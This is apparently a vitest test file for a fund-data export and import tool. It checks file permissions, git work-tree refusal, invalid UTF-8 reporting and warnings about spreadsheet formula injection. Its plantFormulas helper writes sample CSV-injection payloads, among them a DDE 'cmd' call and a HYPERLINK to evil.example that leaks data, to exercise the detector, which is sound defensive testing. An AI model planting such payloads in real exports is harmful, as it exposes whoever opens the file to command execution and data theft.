/**
 * What a bundle on disk may expose, and how the import reads a damaged one (docs/import.md): exported files
 * are private (0600 in a 0700 folder) and never written into a git work tree that git does not ignore; text
 * cells a spreadsheet would run as formulas are kept exactly and warned about per file, on export and in the
 * import's report; an invalid UTF-8 byte is reported at its line and column and the rest of the file is still
 * checked; and the worked example of docs/import.md, run from a database `npm run db:seed` filled, prints
 * what the page says.
 */
import { spawnSync } from 'node:child_process';
import { chmodSync, cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import type pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SAMPLE_FUND } from '../../lib/fund/synthetic.ts';
import { csvLine } from '../../operator/bundle/csv.ts';
import { exportDatabase, exportEmbedded, workTreeProblem } from '../../operator/bundle/export.ts';
import { BUNDLE_FILES } from '../../operator/bundle/format.ts';
import { connectPg, importBundle } from '../../operator/bundle/load.ts';
import { reportJson, reportText } from '../../operator/bundle/report.ts';
import { validateBundle } from '../../operator/bundle/validate.ts';
import { createTestDatabase, migrateAndSeed, type TestDatabase } from '../support/database.ts';

const ROOT = join(import.meta.dirname, '..', '..');
const FUND = SAMPLE_FUND.fundId;
const CLI = [process.execPath, '--experimental-strip-types', '--disable-warning=ExperimentalWarning', join(ROOT, 'scripts', 'fund.ts')];
const work = mkdtempSync(join(tmpdir(), 'fund-edge-bundle-safety-'));
const WHOLE = join(work, 'whole');

beforeAll(async () => {
  await exportEmbedded(FUND, WHOLE);
}, 120_000);

afterAll(() => rmSync(work, { recursive: true, force: true }));

/** A copy of the whole sample bundle, changed by `change`. */
function copy(name: string, change: (dir: string) => void = () => {}): string {
  const dir = join(work, name);
  cpSync(WHOLE, dir, { recursive: true });
  change(dir);
  return dir;
}

/** Rewrites a file through a function of its records (header included). */
function edit(dir: string, file: string, change: (records: string[][]) => void): void {
  const records = parse(readFileSync(join(dir, file)), { bom: true }) as string[][];
  change(records);
  writeFileSync(join(dir, file), records.map((r) => csvLine(r)).join(''));
}

const cli = (args: string[], env: Record<string, string> = {}) =>
  spawnSync(CLI[0]!, [...CLI.slice(1), ...args], { cwd: ROOT, encoding: 'utf8', env: { ...process.env, ...env }, timeout: 120_000 });

const mode = (path: string) => statSync(path).mode & 0o777;

describe('an exported bundle is private', () => {
  it('writes every file 0600 in a 0700 folder', async () => {
    const dir = join(work, 'fresh', 'bundle');
    await exportEmbedded(FUND, dir);
    expect(mode(dir)).toBe(0o700);
    for (const f of readdirSync(dir)) expect([f, mode(join(dir, f))]).toEqual([f, 0o600]);
  });

  it('narrows a readable folder of bundle files and its files; refuses one that holds other files', async () => {
    const again = join(work, 'again');
    mkdirSync(again, { mode: 0o755 });
    chmodSync(again, 0o755);
    writeFileSync(join(again, 'funds.csv'), 'stale', { mode: 0o644 });
    chmodSync(join(again, 'funds.csv'), 0o644);
    await exportEmbedded(FUND, again);
    expect([mode(again), mode(join(again, 'funds.csv'))]).toEqual([0o700, 0o600]);

    const shared = join(work, 'shared');
    mkdirSync(shared);
    chmodSync(shared, 0o755);
    writeFileSync(join(shared, 'notes.txt'), 'mine');
    await expect(exportEmbedded(FUND, shared)).rejects.toThrow(/may be read by other users and holds other files/);
    expect([mode(shared), readdirSync(shared)]).toEqual([0o755, ['notes.txt']]);
  });

  it('is not written into a git work tree unless git ignores the folder', () => {
    expect(workTreeProblem(join(work, 'anywhere'))).toBeUndefined();
    const inTree = join(ROOT, `fund-edge-test-bundle-${process.pid}`);
    const refused = cli(['export', '--fund', FUND, '--source', 'embedded', '--out', inTree]);
    expect(refused.status).toBe(1);
    expect(refused.stderr).toMatch(/is inside the git work tree .*, and git does not ignore it/);
    expect(existsSync(inTree)).toBe(false);
    // node_modules/ is ignored: allowed.
    const ignored = join(ROOT, 'node_modules', `.fund-edge-test-bundle-${process.pid}`);
    try {
      const ok = cli(['export', '--fund', FUND, '--source', 'embedded', '--out', ignored, '--through', '2026-01-10']);
      expect([ok.status, ok.stderr]).toEqual([0, '']);
      expect(ok.stdout).toMatch(/files of mode 0600 in a folder of mode 0700/);
      expect(readdirSync(ignored).sort()).toEqual(
        BUNDLE_FILES.filter((f) => f.table)
          .map((f) => f.file)
          .sort(),
      );
    } finally {
      rmSync(ignored, { recursive: true, force: true });
    }
  }, 120_000);
});

describe('a byte that is not UTF-8', () => {
  it('on line 9 of accounts.csv: one error at its line, column and byte, and the rest of the bundle checked as usual', async () => {
    let at = 0;
    const dir = copy('latin1', (d) => {
      const lines = readFileSync(join(d, 'accounts.csv'), 'latin1').split('\r\n');
      const comma = lines[8]!.indexOf(',');
      at = comma + 1 + 3; // inside the name, after its third character
      const bytes = Buffer.from(lines[8]!, 'latin1');
      lines[8] = Buffer.concat([bytes.subarray(0, at), Buffer.from([0xe9]), bytes.subarray(at)]).toString('latin1');
      writeFileSync(join(d, 'accounts.csv'), Buffer.from(lines.join('\r\n'), 'latin1'));
    });
    const v = await validateBundle(dir, { fundId: FUND });
    expect(v.errors).toEqual([
      {
        file: 'accounts.csv',
        line: 9,
        column: 'name',
        rule: 'encoding',
        message: `not valid UTF-8: byte 0xE9 at byte ${at + 1} of the line`,
      },
    ]);
    expect(v.files['accounts.csv']!.rows).toBe(parse(readFileSync(join(WHOLE, 'accounts.csv'))).length - 1);
  });

  it('twice in one cell, one of them a sequence cut short: one error for each, at that column', async () => {
    const dir = copy('bytes', (d) => {
      const text = readFileSync(join(d, 'share_classes.csv'));
      writeFileSync(
        join(d, 'share_classes.csv'),
        Buffer.concat([text.subarray(0, -2), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from('\r\n')]),
      );
    });
    const v = await validateBundle(dir, { fundId: FUND });
    expect(v.errors.map((e) => [e.file, e.column, e.rule, e.message])).toEqual([
      ['share_classes.csv', 'name', 'encoding', expect.stringMatching(/^not valid UTF-8: byte 0xC3 at byte \d+ of the line$/)],
      ['share_classes.csv', 'name', 'encoding', expect.stringMatching(/^not valid UTF-8: byte 0xFF at byte \d+ of the line$/)],
    ]);
  });
});

/** Plants text a spreadsheet would run as formulas in the free-text and name columns (numbers left alone). */
function plantFormulas(d: string): void {
  edit(d, 'investors.csv', (rs) => {
    const name = rs[0]!.indexOf('legal_name');
    rs[2]![name] = "+cmd|' /C calc'!A0";
  });
  edit(d, 'expenses.csv', (rs) => {
    const description = rs[0]!.indexOf('description');
    rs[3]![description] = '=HYPERLINK("http://evil.example/?leak","Legal review")';
    rs[5]![description] = '@SUM(1+1)';
    rs[6]![description] = '\tTabbed';
    rs[7]![description] = '-2+3';
  });
}

describe('text a spreadsheet would run as a formula', () => {
  it('is reported per file by the import (never its value), and negative numbers are not', async () => {
    const dir = copy('formulas', plantFormulas);
    // Negative numbers are there in numeric columns (short positions), and are not formulas.
    expect(readFileSync(join(dir, 'positions.csv'), 'utf8')).toMatch(/,-\d/);
    const result = await importBundle({ dir, fundId: FUND, mode: 'append', allowRestatement: false, dryRun: true });
    expect(result.validation.errors).toEqual([]);
    const expected = [
      { file: 'investors.csv', count: 1, line: 3, column: 'legal_name' },
      { file: 'expenses.csv', count: 4, line: 4, column: 'description' },
    ];
    expect(result.validation.formulas).toEqual(expected);
    const text = reportText(result, []);
    expect(text.slice(0, 2)).toEqual([
      'warning: investors.csv: 1 text cell starts with =, +, -, @, a tab or a CR (the first at line 3, column legal_name); a spreadsheet may run it as a formula. The values are kept as they are: open the file as text (docs/import.md#opening-a-bundle-in-a-spreadsheet).',
      'warning: expenses.csv: 4 text cells start with =, +, -, @, a tab or a CR (the first at line 4, column description); a spreadsheet may run them as a formula. The values are kept as they are: open the file as text (docs/import.md#opening-a-bundle-in-a-spreadsheet).',
    ]);
    const json = reportJson(result, { fundId: FUND, mode: 'append', dryRun: true, breaks: [], seconds: 1, peakRssMiB: 1 });
    expect((json as { formulaCells: unknown }).formulaCells).toEqual(expected);
    expect(JSON.stringify(json)).not.toMatch(/HYPERLINK|cmd\||SUM\(/);
    expect(text.join('\n')).not.toMatch(/HYPERLINK|cmd\||SUM\(/);
  });
});

describe('with the database', () => {
  let database: TestDatabase;
  let client: pg.Client | undefined;
  beforeAll(async () => {
    database = await createTestDatabase();
    // The worked example starts where the documented local setup leaves the database: migrated and seeded.
    await migrateAndSeed(database, [FUND]);
    if (database.kind === 'postgres') client = await connectPg(database.url);
  }, 120_000);
  afterAll(async () => {
    await client?.end();
    await database?.dispose();
  });

  it('keeps formula-like text exactly through import and export, and the export warns per file', async (ctx) => {
    if (!client) ctx.skip(); // COPY needs PostgreSQL itself (see test/db/import.test.ts)
    const dir = copy('formulas-db', plantFormulas);
    const imported = await importBundle({ dir, fundId: FUND, mode: 'replace', allowRestatement: true, dryRun: false, url: database.url });
    expect(imported.outcome).toBe('imported');
    const out = join(work, 'formulas-out');
    const report = await exportDatabase(client!, FUND, out);
    expect(report!.formulas).toEqual(imported.validation.formulas);
    for (const f of readdirSync(dir)) expect(readFileSync(join(out, f)).equals(readFileSync(join(dir, f))), f).toBe(true);
    // The CLI prints the warnings.
    const cliOut = join(work, 'formulas-cli');
    const printed = cli(['export', '--fund', FUND, '--source', 'database', '--out', cliOut], { DATABASE_URL: database.url });
    expect(printed.status).toBe(0);
    expect(printed.stderr.split('\n').filter((l) => l.startsWith('warning: '))).toEqual([
      expect.stringMatching(/^warning: investors\.csv: 1 text cell starts with/),
      expect.stringMatching(/^warning: expenses\.csv: 4 text cells start with/),
    ]);
  }, 120_000);

  it("docs/import.md's worked example prints what the page says, from a database npm run db:seed filled", async (ctx) => {
    if (!client) ctx.skip();
    // Put the seeded fund back (the test above replaced it).
    await migrateAndSeed(database, [FUND]);
    const doc = readFileSync(join(ROOT, 'docs', 'import.md'), 'utf8');
    const example = doc.split('\n## Worked example\n')[1]!;
    const commands = /```sh\n([\s\S]*?)```/
      .exec(example)![1]!
      .trim()
      .split('\n')
      .map((line) => line.replaceAll('~/fund-bundles', join(work, 'example')));
    const printed = /```\n(Reconciliation[\s\S]*?)```/.exec(example)![1]!;
    let last = '';
    for (const command of commands) {
      expect(command).toMatch(/^npm run fund -- /);
      const run = cli(command.replace(/^npm run fund -- /, '').split(' '), { DATABASE_URL: database.url });
      expect([command, run.status]).toEqual([command, 0]);
      last = run.stdout;
    }
    expect(last).toBe(printed);
  }, 180_000);
});
